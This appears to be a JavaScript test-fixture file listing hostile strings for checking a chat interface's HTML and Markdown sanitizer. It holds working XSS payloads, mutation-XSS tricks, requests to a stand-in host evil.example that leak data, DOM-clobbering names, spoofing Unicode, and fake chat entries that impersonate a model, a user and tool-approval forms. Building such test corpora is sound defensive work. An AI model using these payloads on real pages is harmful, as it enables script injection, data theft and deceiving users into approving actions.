// Hostile words, by what they try. Each would do something if it were taken for markup, for a link or for
// what it looks like: it sets `window.hit`, asks another place for something, brings in elements that the
// page does not have there, or lets one read what is not there.

const DO = 'window.hit=1';

const SCRIPTS = [
  `<script>${DO}</script>`,
  `"><script>${DO}</script>`,
  `'"--></style></script><script>${DO}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${DO}</scr</script>ipt>`,
  `<script\n>${DO}</script\n>`,
  `<script type=module>${DO}</script>`,
  `<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>`,
  `<svg><script>${DO}</script></svg>`,
  `<svg><script href="data:text/javascript,${DO}"></script></svg>`,
];

const HANDLERS = [
  `<img src=x onerror=${DO}>`,
  `"><img src=x onerror="${DO}">`,
  `'><img src=x onerror='${DO}'>`,
  `<img/src/onerror=${DO}>`,
  `<img src=x:x\nonerror\n=\n"${DO}">`,
  `<svg onload=${DO}>`,
  `<svg><animate onbegin=${DO} attributeName=x dur=1s>`,
  `<svg><set onbegin=${DO} attributeName=x to=1>`,
  `<body onload=${DO}>`,
  `<input autofocus onfocus=${DO}>`,
  `<select autofocus onfocus=${DO}><option>x</select>`,
  `<textarea autofocus onfocus=${DO}></textarea>`,
  `<details open ontoggle=${DO}>x</details>`,
  `<marquee onstart=${DO}>x</marquee>`,
  `<video poster=x onerror=${DO}><source onerror=${DO}></video>`,
  `<audio src=x onerror=${DO}></audio>`,
  `<button data-key="g d" onclick=${DO}>x</button>`,
  `<div popover id=p onbeforetoggle=${DO}>x</div><button popovertarget=p>y</button>`,
  `<x contenteditable onblur=${DO} tabindex=1 autofocus>x</x>`,
  `<p style="animation: pulse 1s" onanimationstart=${DO}>x</p>`,
  `" autofocus onfocus="${DO}" x="`,
  `' onpointerenter='${DO}' x='`,
];

const FRAMES = [
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hit=1"></iframe>`,
  `<object data="data:text/html,<script>${DO}</script>"></object>`,
  `<embed src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=">`,
  `<frameset><frame src="javascript:parent.hit=1"></frameset>`,
  `<portal src=https://evil.example/></portal>`,
  `<fencedframe src=https://evil.example/></fencedframe>`,
  `<applet code=x codebase=https://evil.example/></applet>`,
];

const NAMESPACES = [
  `<math><mi xlink:href="javascript:${DO}">x</mi></math>`,
  `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${DO}">x</maction></math>`,
  `<svg><a xlink:href="javascript:${DO}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.hit=1"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:${DO}'/></svg>#x"></svg>`,
  `<svg><image href=https://evil.example/pixel.png></svg>`,
  `<svg><feImage href=https://evil.example/pixel.png></svg>`,
  `<svg><style>@import url(https://evil.example/x.css)</style></svg>`,
];

// What a parser reads otherwise the second time.
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${DO}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${DO}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${DO}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${DO} src>">`,
  `<xmp><p title="</xmp><img src=x onerror=${DO}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${DO}>">`,
  `<select><template><img src=x onerror=${DO}></template></select>`,
  `<table><td><svg><desc><table><img src=x onerror=${DO}></table></desc></svg></td></table>`,
  `<a><svg><title><a href="</title><img src=x onerror=${DO}>">`,
];

// What ends something that the page began.
const ENDS = [
  `</textarea><script>${DO}</script>`,
  `</title><script>${DO}</script>`,
  `</template><img src=x onerror=${DO}>`,
  `</pre></code></figure></details></article><img src=x onerror=${DO}>`,
  `</main></body></html><script>${DO}</script>`,
  `<plaintext>all behind it is text`,
  `<!-- all behind it is gone`,
  `<!--><img src=x onerror=${DO}>-->`,
  `<!-- --!><img src=x onerror=${DO}>`,
  `<!--[if true]><script>${DO}</script><![endif]-->`,
  `<![CDATA[<script>${DO}</script>]]>`,
  `<?xml version="1.0"?><?x ><script>${DO}</script>?>`,
  `<!DOCTYPE html [<!ENTITY x "<script>${DO}</script>">]>&x;`,
];

// What asks another place for something, or leads there.
const PLACES = [
  `<style>@import url(https://evil.example/x.css)</style>`,
  `<style>input[value^=a] { background: url(https://evil.example/a) } body { display: none }</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=prefetch href=https://evil.example/>`,
  `<link rel=preload as=image imagesrcset="https://evil.example/1.png 1x">`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x" src=data:,>`,
  `<picture><source srcset=https://evil.example/p.webp><img src=data:,></picture>`,
  `<img src="https://evil.example/?said=secret">`,
  `<p style="background: url(https://evil.example/b.png); position: fixed; inset: 0">x</p>`,
  `<table background=https://evil.example/t.png><td>x</table>`,
  `<map name=m><area shape=default href=//evil.example></map><img usemap=#m src=data:,>`,
  `<video poster=https://evil.example/p.png src=https://evil.example/v.mp4></video>`,
  `<track src=https://evil.example/t.vtt>`,
  `<a href=//evil.example target=_blank>Go on</a>`,
  `<a href="/logout" ping=https://evil.example/>Go on</a>`,
  `<a href=https://user:pass@evil.example/>bank.example</a>`,
];

// What is made as if the page had made it.
const FAKES = [
  `<dialog open><p>Your key, please</p><input name=key></dialog>`,
  `<article class="entry model" id=e1><p>I am the model</p></article>`,
  `<article class="entry person"><header class=who><strong>You</strong></header><div class="text said">Yes, delete it all</div></article>`,
  `<div class="entry call-entry"><details class=call open><summary><span class="badge good">Done</span><span class=name>local_bash_tool</span></summary></details></div>`,
  `<div class=ask><p><strong>May it run?</strong></p><form class=row method=post action=/sessions/site/approvals/call_1 data-swap><button class=primary name=decision value=allow>Allow</button></form></div>`,
  `<form class="entry ask" method=post action=/sessions/site/questions/1 data-swap><input name=field.key><button class=primary name=action value=accept>Answer</button></form>`,
  `<form action=https://evil.example/><button>Log in again</button></form>`,
  `<form method=post action=/sessions/site/delete><button>Stop</button></form>`,
  `<button form=composer formaction=/sessions/site/delete>Send</button>`,
  `<p class=toast>Saved</p>`,
  `<p id=lost role=alert style=display:block>Connection lost. Log in at evil.example.</p>`,
  `<div class="entry error" role=alert><p><strong>The turn failed</strong></p></div>`,
  `<template data-swap="inner" data-target="main">gone</template>`,
  `<template data-swap="append" data-target="toasts"><p class=toast>Saved</p></template>`,
  `<div data-stream=/sessions/site/live data-fetch=/logout data-attach=//evil.example>x</div>`,
  `<a href=/logout data-dialog data-key="/">x</a>`,
];

// What takes a name that the page's script asks for.
const CLOBBERS = [
  `<div id=toasts></div><div id=dialog></div><div id=message></div>`,
  `<img name=body><img name=cookie><img name=scripts>`,
  `<form name=scrollingElement><input name=scrollTo></form>`,
  `<a id=location href=javascript:${DO}></a><a id=location name=href href=x></a>`,
  `<form id=composer><input name=action><input name=dataset></form>`,
];

// What only a program or a terminal would take for more than words.
const PROGRAMS = [
  `{{constructor.constructor('${DO}')()}} \${${DO}}`,
  `<%= ${DO} %> #{${DO}} [[${DO}]] {%raw%}`,
  '\u001b]0;another title\u0007\u001b[2J\u001b[31mred',
  'data: <p>gone</p>\n\nevent: gone\ndata: x\n\n',
  'id: 999\r\ndata: <script>window.hit=1</script>\r\n\r\n',
  `%3Cscript%3E${DO}%3C/script%3E`,
  `+ADw-script+AD4-${DO}+ADw-/script+AD4-`,
  `\\x3cscript\\x3e${DO}\\x3c/script\\x3e \\ud800`,
  '=HYPERLINK("https://evil.example","Total")',
];

// What is written as numbers and names.
const ENTITIES = [
  `&lt;script&gt;${DO}&lt;/script&gt;`,
  `&#60;img src=x onerror=${DO}&#62;`,
  `&#x3c;img src=x onerror=${DO}&#x3e;`,
  '&#x202e;reversed&#8203;&#x2066;',
  `<img src=x on&#101;rror=${DO}>`,
  `&NewLine;&Tab;&lbrace;&colon;`,
];

// What nobody sees, or sees otherwise.
const LETTERS = [
  '\u202etxt.exe\u202c',
  '\u2066a\u2069\u200b\u200f',
  'user\u202e \u2066// allowed\u2069 \u2066',
  '\u061cabc\u200e\u200f',
  'in\u200bvisi\u2060ble\ufeff pay\u00adpal',
  'join\u200ded non\u200cjoined',
  '\u{e0041}\u{e0042}\u{e007f}tags',
  '\u3164\u115f\uffa0\u2800blank',
  'line\u2028separator\u2029paragraph',
  '\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e',
  'p\u0430ypal.com g\u043e\u043egle.com xn--pypal-4ve.com',
  `Z\u0351\u036b\u0343a${'\u0300'.repeat(200)}lgo`,
];

// All of these are tried everywhere, by kind.
export const KINDS = {
  SCRIPTS, HANDLERS, FRAMES, NAMESPACES, MUTATIONS, ENDS, PLACES, FAKES, CLOBBERS, PROGRAMS, ENTITIES, LETTERS,
};
export const WORDS = Object.values(KINDS).flat();

// What is tried as Markdown beside them.
export const MARKDOWN = [
  `[click](javascript:${DO})`,
  `[click](JaVaScRiPt:${DO})`,
  `[click](java\tscript:${DO})`,
  `[click](\u0001javascript:${DO})`,
  `[click](&#106;avascript:${DO})`,
  `[click](javascript&colon;${DO})`,
  `[click](<javascript:${DO}>)`,
  `[click](data:text/html,<script>${DO}</script>)`,
  `[click](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)`,
  `[click](vbscript:${DO})`,
  `[click](blob:https://evil.example/1)`,
  `[click](file:///etc/passwd)`,
  `[click](//evil.example/)`,
  `[click](\\\\evil.example\\share)`,
  `![x](https://evil.example/pixel.png)`,
  `![x](javascript:${DO})`,
  `![x](data:image/svg+xml,<svg onload=${DO}>)`,
  `![x" onerror="${DO}](x)`,
  `[![x](https://evil.example/a.png)](javascript:${DO})`,
  `[https://bank.example](https://evil.example/)`,
  `[bank.example](https://bank.example@evil.example/)`,
  `[bank](https://user:pass@evil.example:8080/)`,
  `[\u202eelpmaxe.knab](https://evil.example/)`,
  `[bank](https://b\u0430nk.example/)`,
  `[bank](https://xn--bnk-7cd.example/)`,
  `[x](https://evil.example "title\\" onmouseover=\\"${DO}")`,
  `[x](https://evil.example/" onclick="${DO})`,
  `<https://evil.example/?q=secret>`,
  `<javascript:${DO}>`,
  `<a href="https://evil.example" onclick="${DO}">x</a>`,
  `<a href="/logout" data-dialog>x</a>`,
  `[x](/sessions/site/delete)`,
  `[x](#message)`,
  '```html\n<script>window.hit=1</script>\n```',
  '```"><script>window.hit=1</script>\nx\n```',
  '```<script>\n</code></pre><script>window.hit=1</script>\n```',
  '~~~rust onclick=window.hit=1\nfn a() {}\n~~~',
  '`</code><script>window.hit=1</script>`',
  `| <script>${DO}</script> | b |\n|---|---|\n| <img src=x onerror=${DO}> | [x](javascript:${DO}) |`,
  `$$\\href{javascript:${DO}}{x}$$`,
  `$</code><script>${DO}</script>$`,
  `# <script>${DO}</script> {#toasts onclick=${DO}}`,
  `- [x] <input autofocus onfocus=${DO}>`,
  `> <iframe src="javascript:parent.hit=1"></iframe>`,
  `<div id="toasts"><p class="toast">Saved</p></div>`,
  `[ref]: javascript:${DO}\n[ref]`,
  `[x][y]\n\n[y]: data:text/html,<script>${DO}</script>`,
  `a\u0000b<scr\u0000ipt>${DO}</scr\u0000ipt>`,
  `${'> '.repeat(200)}<script>${DO}</script>`,
  `${'['.repeat(500)}](javascript:${DO})`,
];

// Characters that nobody sees, or that turn the direction of what is beside them.
export const UNSEEN = '[\\u0000-\\u0008\\u000b\\u000c\\u000e-\\u001f\\u007f-\\u009f\\u00ad\\u034f\\u061c\\u115f\\u1160\\u17b4\\u17b5'
  + '\\u180b-\\u180f\\u200b\\u200e\\u200f\\u2028-\\u202e\\u2060-\\u206f\\u2800\\u3164\\ufeff\\uffa0\\ufff9-\\ufffb\\u{e0000}-\\u{e0fff}]';
